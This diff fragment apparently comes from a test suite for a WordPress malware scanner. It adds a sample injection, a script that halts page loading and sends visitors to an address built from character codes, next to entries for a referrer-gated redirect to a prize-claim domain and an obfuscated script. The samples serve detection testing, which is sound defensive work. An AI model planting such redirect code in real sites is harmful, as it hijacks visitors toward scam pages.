@@ -297,6 +297,10 @@ FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
      {"head": BALADA_SPLIT}, ("obfuscated-script", H)),
     ("a redirect kit's rule in a settings script, the redirect in the next, wp_footer",
      {"footer": KIT_RULE}, ("redirect", H)),
+    ("a redirect to a name holding the address's char codes, window.stop() first, head",
+     {"head": "<script>window.stop();var l=String.fromCharCode("
+      f"{_codes('https://bvs.offer-trackhub.test/go.php?s=43636&id=184')});window.location."
+      "replace(l);document.location.href=l;</script>"}, ("redirect", H)),
     ("a referrer-gated redirect to a name its script assigns the address, wp_footer",
      {"footer": "<script>var target_url='https://prize-claim-center.test/?s=hg';if(/google|"
       "bing/.test(document.referrer)){location.replace(target_url);}</script>"},
